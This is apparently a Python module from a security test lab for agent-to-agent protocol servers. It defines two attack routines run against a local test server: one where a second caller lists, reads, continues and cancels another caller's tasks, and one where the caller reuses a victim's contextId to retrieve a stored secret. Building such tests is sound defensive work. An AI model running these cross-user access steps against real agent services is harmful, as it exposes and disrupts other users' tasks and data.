"""Strangers with credentials of their own against another caller's tasks and contexts."""

from __future__ import annotations

from a2a.types import CancelTaskRequest, GetTaskRequest, ListTasksRequest, TaskState

from agentcomm.protocols.attacks.a2a_lab import A2AAttack, A2AParts, client, result_of, send, server, task_of
from agentcomm.protocols.attacks.base import Outcome
from agentcomm.protocols.attacks.trying import tried


class Stranger(A2AAttack):
    """Lists, reads, continues and cancels the tasks of another caller."""

    name = "stranger"
    finding = "without an owner hook, a stranger lists, reads, continues and cancels everybody's tasks"

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Park two tasks of alice, and let bob have at them."""
        async with (
            server(parts) as target,
            client(parts, target.url, "alice") as alice,
            client(parts, target.url, "bob") as bob,
        ):
            parked = [await tried(send(alice, {"wait": True})) for _ in range(2)]
            if not all(one.worked for one in parked):
                return Outcome(False, False, {"honest": parked[0].word})
            first, second = (task_of(one.value).id for one in parked)
            own = await tried(alice.get_task(GetTaskRequest(id=first)))
            listed = await tried(bob.list_tasks(ListTasksRequest()))
            read = await tried(bob.get_task(GetTaskRequest(id=first)))
            continued = await tried(send(bob, {"a": 9, "b": 0}, task_id=first))
            canceled = await tried(bob.cancel_task(CancelTaskRequest(id=second)))
        done = {
            "listed": listed.worked and listed.value.total_size > 0,
            "read": read.worked,
            "continued": continued.worked and task_of(continued.value).status.state == TaskState.TASK_STATE_COMPLETED,
            "canceled": canceled.worked,
        }
        return Outcome(any(done.values()), own.worked, {**done, "honest": own.word})


class ContextReuse(A2AAttack):
    """Names another caller's contextId, and reads what the agent remembers of it."""

    name = "context_reuse"
    finding = "a stranger who names a victim's contextId is served inside it, with an owner hook as well"

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Let alice tell the agent a secret, and bob ask for it."""
        async with (
            server(parts) as target,
            client(parts, target.url, "alice") as alice,
            client(parts, target.url, "bob") as bob,
        ):
            told = await tried(send(alice, {"remember": "secret"}))
            if not told.worked:
                return Outcome(False, False, {"honest": told.word})
            context = task_of(told.value).context_id
            own = await tried(send(alice, {"recall": True}, context_id=context))
            stolen = await tried(send(bob, {"recall": True}, context_id=context))
        leaked = stolen.worked and result_of(stolen.value).get("memory") == "secret"
        honest = own.worked and result_of(own.value).get("memory") == "secret"
        return Outcome(leaked, honest, {"stranger": stolen.word, "honest": own.word})
